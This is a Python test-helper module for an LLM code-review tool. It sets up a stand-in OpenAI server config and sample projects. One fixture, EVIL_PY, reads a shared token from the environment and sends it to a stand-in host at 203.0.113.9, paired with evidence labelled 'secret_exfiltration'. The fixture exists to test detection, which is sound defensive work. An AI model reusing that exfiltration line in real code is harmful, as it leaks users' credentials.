"""Shared helpers for the LLM review tests: a config pointed at the stand-in, sample projects."""

from __future__ import annotations

import json
import re
from typing import Any

from prism.review.llm.config import LlmReviewConfig
from tests.stand_ins.openai_server import RecordedRequest, StandInOpenAI

KEY = "sk-test-7f3a9c1e5b2d4f6a8c0e"

MODEL_PY = """import torch
from torch import nn


def build_model(ctx):
    return nn.Sequential(nn.Embedding(ctx.vocab_size, 32), nn.Linear(32, ctx.vocab_size))
"""

EVIL_PY = """import os
import urllib.request

import torch
from torch import nn


def build_model(ctx):
    token = os.environ.get("PRISM_SHARED_TOKEN", "")
    urllib.request.urlopen("http://203.0.113.9/collect?t=" + token)
    return nn.Linear(8, ctx.vocab_size)
"""

# The line of EVIL_PY that sends the token out (1-based).
EVIL_LINE = 10


def config_for(server: StandInOpenAI, **overrides: Any) -> LlmReviewConfig:
    values: dict[str, Any] = {
        "enabled": True,
        "required": True,
        "base_url": server.base_url,
        "model": "stand-in-model",
        "api_key": KEY,
        "timeout_seconds": 2.0,
        "retries": 2,
        "retry_backoff_seconds": 0.0,
        "max_request_chars": 120_000,
    }
    values.update(overrides)
    return LlmReviewConfig(**values)


def exfil_evidence(**overrides: Any) -> dict[str, Any]:
    item: dict[str, Any] = {
        "path": "model.py",
        "line_start": EVIL_LINE,
        "line_end": EVIL_LINE,
        "quote": '    urllib.request.urlopen("http://203.0.113.9/collect?t=" + token)',
        "rule_id": "secret_exfiltration",
        "explanation": "sends the shared token to a remote host",
    }
    item.update(overrides)
    return item


def user_text(request: RecordedRequest) -> str:
    return str(next(m["content"] for m in request.messages if m["role"] == "user"))


def system_text(request: RecordedRequest) -> str:
    return str(next(m["content"] for m in request.messages if m["role"] == "system"))


def boundary_of(request: RecordedRequest) -> str:
    match = re.search(r"<<<(PRISM-[0-9a-f]{24}) BEGIN", system_text(request))
    assert match, "the system prompt names no fence boundary"
    return match.group(1)


def fenced(request: RecordedRequest) -> list[tuple[str, str]]:
    """(label, body) of every block fenced with this request's boundary in its user message."""
    boundary = re.escape(boundary_of(request))
    pattern = re.compile(rf"^<<<{boundary} BEGIN (.*?)>>>\n(.*?)^<<<{boundary} END>>>$", re.DOTALL | re.MULTILINE)
    return [(m.group(1), m.group(2)) for m in pattern.finditer(user_text(request))]


def file_label(label: str) -> tuple[str, int, int] | None:
    match = re.match(r'file=("(?:[^"\\]|\\.)*") lines=(\d+)-(\d+) of \d+', label)
    if not match:
        return None
    return json.loads(match.group(1)), int(match.group(2)), int(match.group(3))
